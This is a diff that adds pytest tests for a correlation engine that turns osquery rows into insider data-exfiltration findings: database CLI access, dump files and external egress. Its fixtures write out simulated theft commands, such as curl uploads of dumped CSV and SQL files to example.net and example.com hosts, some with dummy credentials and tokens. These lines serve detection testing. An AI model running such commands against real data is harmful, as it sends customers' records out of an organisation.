@@ -1,0 +1,240 @@
+"""The pure chain engine: state in, rows in, findings out."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from correlate_scenarios.make_scenarios import D, H, MON, Log
+
+from osq_dbwatch.config import parse_config
+from osq_dbwatch.correlate import reasons as R
+from osq_dbwatch.correlate.engine import Engine, HostState, chain_uid, is_external_destination
+from osq_dbwatch.correlate.findings import to_ecs, to_ocsf
+from osq_dbwatch.correlate.rows import Row, parse_line
+
+CONFIG = """
+admins:
+  users: [root-dba]
+  groups: [dba]
+service_accounts: [backup]
+internal_networks: [10.0.0.0/8]
+correlator:
+  max_pending_per_host: 3
+"""
+T = MON + D + 2 * H
+
+
+def rows_of(log: Log) -> list[Row]:
+    out: list[Row] = []
+    for line in log.lines:
+        out.extend(parse_line(line.encode()).rows)
+    return out
+
+
+def engine(text: str = CONFIG) -> Engine:
+    return Engine(parse_config(text))
+
+
+def insider(log: Log, host: str = "pg-1", t: int = T, user: str = "mallory", pid: int = 4101) -> None:
+    log.db_exec(host, t, user, 1004, "psql -h 127.0.0.1 -U app -d customers", "/usr/bin/psql", pid, "/usr/bin/bash", "-bash")
+    log.dump_file(host, t + 150, f"/tmp/{user}.csv", user, 1004)
+    log.transfer(host, t + 290, user, 1004, f"curl -T /tmp/{user}.csv https://files.example.net/u", "/usr/bin/curl", pid + 30)
+    log.egress(host, t + 291, pid + 30, "/usr/bin/curl", "93.184.216.34", 443, user, 1004)
+
+
+def test_one_call_gives_one_high_finding() -> None:
+    log = Log()
+    insider(log)
+    state, findings = engine().process(HostState("pg-1"), rows_of(log))
+    (f,) = findings
+    assert (f.severity_id, f.update, f.user, f.stages) == (4, False, "mallory", ["access", "dump", "egress"])
+    assert f.first_seen_ms == T * 1000 and f.time_ms == f.last_seen_ms == (T + 291) * 1000
+    assert {"T1213", "T1005", "T1074", "T1567"} <= set(f.techniques)
+    kinds = [next(k for k in ("process", "file", "dst_endpoint") if k in e) for e in f.evidences]
+    assert kinds == ["process", "file", "process", "process"] and "dst_endpoint" in f.evidences[-1]
+
+
+def test_later_evidence_that_raises_severity_is_an_update_with_the_same_uid() -> None:
+    log = Log()
+    insider(log)
+    rows = rows_of(log)
+    e = engine()
+    state = HostState("pg-1")
+    seen = []
+    for row in rows:
+        state, findings = e.process(state, [row])
+        seen.extend(findings)
+    assert [(f.severity_id, f.update) for f in seen] == [(2, False), (3, True), (4, True)]
+    assert len({f.uid for f in seen}) == 1
+    # osquery resends rows: nothing new comes out, in the same or a later call
+    state, again = e.process(state, rows + rows)
+    assert again == []
+
+
+def test_uid_is_stable_and_derived_from_host_user_and_first_event() -> None:
+    log = Log()
+    insider(log)
+    a = engine().process(HostState("pg-1"), rows_of(log))[1][0].uid
+    b = engine().process(HostState("pg-1"), rows_of(log))[1][0].uid
+    assert a == b == chain_uid("pg-1", "mallory", f"x|db_cli_exec|4101|{T}|/usr/bin/psql")
+    other = Log()
+    insider(other, user="eve")
+    assert engine().process(HostState("pg-1"), rows_of(other))[1][0].uid != a
+
+
+@pytest.mark.parametrize("cut", range(0, 5))
+def test_state_survives_serialisation_at_any_point(cut: int) -> None:
+    log = Log()
+    insider(log)
+    insider(log, user="eve", pid=5000, t=T + 60)
+    rows = rows_of(log)
+    e = engine()
+    one, findings_one = e.process(HostState("pg-1"), rows)
+    state, first = e.process(HostState("pg-1"), rows[:cut])
+    restored = HostState.from_json(json.loads(json.dumps(state.to_json())))
+    restored, second = e.process(restored, rows[cut:])
+    final = {f.uid: f.severity_id for f in first + second}
+    assert final == {f.uid: f.severity_id for f in findings_one}
+    assert restored.to_json()["chains"] == one.to_json()["chains"]
+
+
+def test_evidence_before_its_access_is_linked() -> None:
+    log = Log()
+    log.dump_file("pg-1", T + 20, "/tmp/early.csv", "mallory", 1004)
+    log.db_exec("pg-1", T, "mallory", 1004, "psql -d crm", "/usr/bin/psql", 77, "/usr/bin/bash", "-bash")
+    (f,) = engine().process(HostState("pg-1"), rows_of(log))[1]
+    assert f.severity_id == 3 and f.stages == ["access", "dump"]
+
+
+def test_windows_bound_the_chain() -> None:
+    log = Log()
+    log.db_exec("pg-1", T, "mallory", 1004, "psql -d crm", "/usr/bin/psql", 77, "/usr/bin/bash", "-bash")
+    log.dump_file("pg-1", T + 901, "/tmp/late.csv", "mallory", 1004)  # dump_after_access is 15m
+    (f,) = engine().process(HostState("pg-1"), rows_of(log))[1]
+    assert f.severity_id == 2 and f.stages == ["access"]
+    log = Log()
+    log.db_exec("pg-1", T, "mallory", 1004, "psql -d crm", "/usr/bin/psql", 77, "/usr/bin/bash", "-bash")
+    log.dump_file("pg-1", T + 100, "/tmp/x.csv", "mallory", 1004)
+    log.egress("pg-1", T + 100 + 901, 99, "/usr/bin/curl", "93.184.216.34", 443, "mallory", 1004)
+    (f,) = engine().process(HostState("pg-1"), rows_of(log))[1]
+    assert f.stages == ["access", "dump"]
+
+
+def test_other_users_files_and_connections_do_not_join() -> None:
+    log = Log()
+    log.db_exec("pg-1", T, "mallory", 1004, "psql -d crm", "/usr/bin/psql", 77, "/usr/bin/bash", "-bash")
+    log.dump_file("pg-1", T + 10, "/tmp/x.csv", "trent", 1005)
+    log.egress("pg-1", T + 20, 99, "/usr/bin/curl", "93.184.216.34", 443, "trent", 1005)
+    (f,) = engine().process(HostState("pg-1"), rows_of(log))[1]
+    assert f.stages == ["access"]
+
+
+def test_admins_by_config_and_by_admin_accounts_rows() -> None:
+    log = Log()
+    log.db_exec("pg-1", T, "root-dba", 1, "pg_dump -f /tmp/a.sql db", "/usr/bin/pg_dump", 10, "/usr/bin/bash", "-bash")
+    log.admins("pg-1", T, [("grace", "dba", 1010), ("root", "root", 0)])
+    log.db_exec("pg-1", T + 1, "grace", 1010, "psql", "/usr/bin/psql", 11, "/usr/bin/bash", "-bash")
+    log.db_exec("pg-1", T + 2, "root", 0, "psql", "/usr/bin/psql", 12, "/usr/bin/bash", "-bash")
+    findings = engine().process(HostState("pg-1"), rows_of(log))[1]
+    assert [f.user for f in findings] == ["root"]  # group root is not an admin group
+
+
+def test_admin_removed_by_a_differential_row_is_no_longer_admin() -> None:
+    e = engine()
+    state = HostState("pg-1")
+    log = Log()
+    obj = log._head("admin_accounts", "pg-1", T, 1)
+    obj["diffResults"] = {"added": [{"username": "grace", "groupname": "dba", "uid": "1010"}], "removed": []}
+    log.lines.append(json.dumps(obj))
+    obj = log._head("admin_accounts", "pg-1", T + 10, 2)
+    obj["diffResults"] = {"added": [], "removed": [{"username": "grace", "groupname": "dba", "uid": "1010"}]}
+    log.lines.append(json.dumps(obj))
+    log.db_exec("pg-1", T + 20, "grace", 1010, "psql", "/usr/bin/psql", 11, "/usr/bin/bash", "-bash")
+    assert [f.user for f in e.process(state, rows_of(log))[1]] == ["grace"]
+
+
+def test_admin_under_a_server_is_still_unusual() -> None:
+    log = Log()
+    log.db_exec("pg-1", T, "root-dba", 1, "psql", "/usr/bin/psql", 10, "/usr/sbin/apache2", "/usr/sbin/apache2 -k start")
+    (f,) = engine().process(HostState("pg-1"), rows_of(log))[1]
+    assert f.severity_id == 4 and "web-server-parent:+40" in f.reasons and "T1505.003" in f.techniques
+
+
+def test_context_never_leaves_the_ladder_band() -> None:
+    log = Log()
+    # dump intent, password, hidden staging parent, non-interactive: still "low" for an access alone
+    log.db_exec("pg-1", T, "mallory", 1004, "mysqldump -u root -pX --result-file=/root/x.sql shop", "/usr/bin/mysqldump", 10,
+                "/dev/shm/.k", "")
+    (f,) = engine().process(HostState("pg-1"), rows_of(log))[1]
+    assert f.severity_id == 2 and f.score == 39
+    assert {"dump-intent:+5", "password-on-cmdline:+5", "unusual-parent:+5", "non-interactive:+5"} <= set(f.reasons)
+
+
+def test_pending_chains_are_capped_and_evictions_counted() -> None:
+    log = Log()
+    for i in range(10):
+        log.db_exec("pg-1", T + i, f"user{i}", 2000 + i, "psql", "/usr/bin/psql", 100 + i, "/usr/bin/bash", "-bash")
+    state, findings = engine().process(HostState("pg-1"), rows_of(log))
+    assert len(state.chains) == 3 and state.evictions == 7
+    assert sorted(c.user for c in state.chains.values()) == ["user7", "user8", "user9"]
+
+
+def test_old_state_expires() -> None:
+    e = engine(CONFIG + "  state_expiry: 1d\n")
+    log = Log()
+    insider(log)
+    state, _ = e.process(HostState("pg-1"), rows_of(log))
+    assert state.chains and state.emitted and state.pids
+    later = Log()
+    later.db_exec("pg-1", T + 3 * D, "root-dba", 1, "psql", "/usr/bin/psql", 10, "/usr/bin/bash", "-bash")
+    state, _ = e.process(state, rows_of(later))
+    assert not state.chains and not state.emitted and not state.files and not state.egress
+    assert list(state.pids) == ["10"]
+
+
+def test_flood_of_rows_keeps_state_bounded() -> None:
+    log = Log()
+    for i in range(3000):
+        log.dump_file("pg-1", T + i, f"/tmp/f{i}.sql", f"u{i}", 3000 + i)
+        log.egress("pg-1", T + i, 5000 + i, "/usr/bin/curl", "93.184.216.34", 443, f"u{i}", 3000 + i)
+        log.transfer("pg-1", T + i, f"u{i}", 3000 + i, f"curl -T /tmp/f{i}.sql https://a.example.com", "/usr/bin/curl", 9000 + i)
+    state, _ = engine().process(HostState("pg-1"), rows_of(log))
+    assert len(state.files) <= 256 and len(state.egress) <= 256 and len(state.pids) <= 4096 and len(state.seen) <= 8192
+
+
+@pytest.mark.parametrize(
+    ("dest", "external"),
+    [("93.184.216.34", True), ("10.1.2.3", False), ("127.0.0.1", False), ("::1", False), ("fe80::1%eth0", False),
+     ("files.example.net", True), ("backup", False), ("db.internal", False), ("nas.local", False), ("localhost", False),
+     ("2001:db8::1", True), ("::ffff:10.0.0.1", False), ("", False)],
+)
+def test_external_destinations(dest: str, external: bool) -> None:
+    assert is_external_destination(parse_config(CONFIG), dest) is external
+
+
+SECRETS = ["Sup3rS3cret", "hunter2x", "tok_live_abc", "pw4curl", "envpass9"]
+
+
+def test_no_secret_from_a_command_line_reaches_any_field() -> None:
+    log = Log()
+    log.db_exec("pg-1", T, "mallory", 1004, "mysql -u root -pSup3rS3cret -h db shop", "/usr/bin/mariadb", 10,
+                "/usr/bin/dash", "sh -c PGPASSWORD=envpass9 psql postgres://app:hunter2x@db/x", session=True)
+    log.dump_file("pg-1", T + 5, "/tmp/x.sql", "mallory", 1004)
+    log.transfer("pg-1", T + 10, "mallory", 1004,
+                 "curl -u bob:pw4curl -H Authorization: Bearer tok_live_abc -T /tmp/x.sql https://e.example.com",
+                 "/usr/bin/curl", 20)
+    (f,) = engine().process(HostState("pg-1"), rows_of(log))[1]
+    for rendered in (to_ocsf(f), to_ecs(f)):
+        text = json.dumps(rendered)
+        for secret in SECRETS:
+            assert secret not in text
+
+
+def test_every_reason_label_is_registered() -> None:
+    log = Log()
+    insider(log)
+    (f,) = engine().process(HostState("pg-1"), rows_of(log))[1]
+    for label in f.reasons:
+        code, delta = label.split(":")
+        assert code in R.REASONS and int(delta) == int(delta)
